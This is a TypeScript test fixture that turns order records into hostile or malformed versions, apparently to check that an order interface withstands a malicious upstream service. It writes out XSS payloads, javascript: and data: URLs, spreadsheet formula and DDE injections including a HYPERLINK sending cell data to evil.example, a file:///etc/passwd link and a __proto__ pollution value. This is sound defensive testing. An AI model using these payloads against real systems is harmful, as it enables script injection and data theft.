import type { ItemDocument } from '../documents.ts';
import { LANDMARKS, type Landmark } from '../landmarks.ts';
import type { OrderRecord } from '../records.ts';

type Shape = (record: OrderRecord) => OrderRecord;

const SCRIPT = '<script>alert("order")</script>';
const IMAGE = '<img src=x onerror="alert(1)">';
const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
/** Right-to-left override, zero-width space and joiner, stacked combining marks. */
const STRANGE = '\u202Egnp.eciovni\u202C \u200B\u200Dinvisible Z\u0351\u036B\u0343\u036A\u0302\u036B';
const ARABIC = 'محمد عبد الله';
const LONG = `${'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(80)}end`;
const UNBROKEN = 'W'.repeat(600);

/** Overwrites fields with values of any type, because a hostile service does not respect types. */
function overwrite(target: object, fields: Readonly<Record<string, unknown>>): void {
  Object.assign(target, fields);
}

const hostile: Shape = (record) => {
  const [one, two, three] = record.items as [ItemDocument, ItemDocument, ItemDocument];
  overwrite(record.order ?? {}, { customerName: `${SCRIPT} ${ARABIC}`, merchantOrderId: FORMULA });
  overwrite(one, {
    merchantProductName: IMAGE,
    merchantItemId: "+cmd|' /C calc'!A0",
    fulfillerItemId: '@SUM(1+1)*cmd',
  });
  overwrite(two, { merchantProductName: `${STRANGE} ${UNBROKEN}`, merchantItemId: '-2+3+cmd' });
  overwrite(three, { merchantProductName: LONG, merchantItemId: `=1+1\nfoo` });
  overwrite(one.destinationAddress ?? {}, {
    lastName: SCRIPT,
    street1: '"><svg onload=alert(1)>',
    city: STRANGE,
  });
  one.variableAttributes = [{ name: '__proto__', value: '{{constructor}}', attributeClass: 'toString' }];
  if (two.statuses?.rejected) two.statuses.rejected.detail = `${SCRIPT}${LONG}`;
  if (three.statuses?.suspended) three.statuses.suspended.detail = `\u0000${FORMULA}`;
  for (const event of record.events.slice(0, 2)) {
    overwrite(event, { detail: SCRIPT, createdOnBehalfOf: `${IMAGE}@clients` });
    event.additionalData = { reason: SCRIPT, caveats: [IMAGE, { deep: { deeper: LONG } }], quantity: 'many' };
  }
  return record;
};

const hostileLinks: Shape = (record) => {
  const [one, two] = record.items as [ItemDocument, ItemDocument];
  const evil = { href: 'https://evil.example/steal-the-token' };
  one._links = {
    ...one._links,
    routedItem: evil,
    productConfiguration: evil,
    routingRequest: evil,
    buyerProductPrice: evil,
    printJob: evil,
    shipments: [evil, { href: 'javascript:alert(1)' }],
    fulfillmentConfiguration: evil,
    'product-manager': { href: 'javascript:alert(document.domain)' },
    fulfillerProduction: { href: 'data:text/html,<script>alert(1)</script>' },
    ecommerce: { href: 'httpx://evil.example' },
    buyerAccount: { href: '//evil.example/protocol-relative' },
    cartEvaluation: { href: 'ftp://evil.example/file' },
  };
  overwrite(one, {
    documentReferenceUrl: 'javascript:alert(1)',
    manufacturingReadyDataUrl: 'file:///etc/passwd',
    eventCallbackUrl: 'javascript:alert(1)',
  });
  overwrite(two, {
    _links: { self: 'not an object', shipments: [null, 5, { href: '' }], routedItem: { href: 7 } },
  });
  for (const shipment of record.shipments) {
    for (const parcel of shipment.packages) parcel.trackingUrl = 'javascript:alert("tracked")';
  }
  if (record.order)
    record.order._links = { merchantOrder: evil, claims: [{ href: 'javascript:alert(1)', name: SCRIPT }] };
  return record;
};

/**
 * Reduces the order and its items to their IDs, the merchant's ID and the creation date. Without the
 * merchant's ID, nobody could read the order.
 */
const halfEmpty: Shape = (record) => {
  const { orderId, merchantId, createdDate } = record.order ?? { orderId: record.orderId };
  return {
    ...record,
    order: { orderId, merchantId: merchantId ?? '', createdDate: createdDate ?? '' },
    items: record.items.map(({ itemId }) => ({ itemId })),
    request: null,
    events: [],
    shipments: [],
    notifications: [],
    callback: null,
  };
};

const wrongTypes: Shape = (record) => {
  const [one, two] = record.items as [ItemDocument, ItemDocument];
  overwrite(record.order ?? {}, {
    customerName: 42,
    totalPrice: '41,50',
    currencyCode: null,
    customerPrices: 'many',
    merchantPrices: { EUR: '12', USD: null },
    fakeOrder: 'no',
    fulfillmentGroups: { a: 1 },
    localPromisedArrivalDate: 20261124,
    testingConfiguration: 'donotbreathe',
  });
  overwrite(one, {
    quantity: '250',
    statuses: {
      production: { state: 'current', expectedCloseDate: 'tomorrow', quantity: '5' },
      routing: null,
    },
    variableAttributes: null,
    deliveryConfigurations: 'none',
    itemPricing: { basePrice: '20', currencyCode: 'EUR' },
    linkedData: [],
    printJob: 'PJ-1',
    unmetExpectations: [null, 'all', { expectationCode: '' }],
    destinationAddress: 'Kerkstraat 1',
    promisedArrivalDate: '2026-11-24',
  });
  overwrite(two, {
    statuses: null,
    _links: null,
    quantity: Number.MAX_SAFE_INTEGER,
    merchantProductName: ['A', 'B'],
  });
  const [event] = record.events;
  if (event)
    overwrite(event, { eventDate: 'yesterday', additionalData: null, attempts: 'none', eventType: 7 });
  return record;
};

const noItems: Shape = (record) => ({ ...record, items: [], shipments: [], events: [], notifications: [] });

const STRANGE_IDS = ['item/1#a', 'item 2 100%', 'item?c=d&e=/f'];

const strangeIds: Shape = (record) => {
  let text = JSON.stringify(record);
  for (const [index, item] of record.items.entries()) {
    const strange = STRANGE_IDS[index] ?? `item ${index}`;
    text = text
      .replaceAll(`/${item.itemId}`, `/${encodeURIComponent(strange)}`)
      .replaceAll(item.itemId, JSON.stringify(strange).slice(1, -1));
  }
  return { ...(JSON.parse(text) as OrderRecord), orderId: LANDMARKS.strangeIds };
};

/** By landmark, the function that turns its order into one that a hostile or broken service could return. */
export const HOSTILE_TRANSFORMS: Partial<Record<Landmark, Shape>> = {
  hostile,
  hostileLinks,
  halfEmpty,
  wrongTypes,
  noItems,
  strangeIds,
};
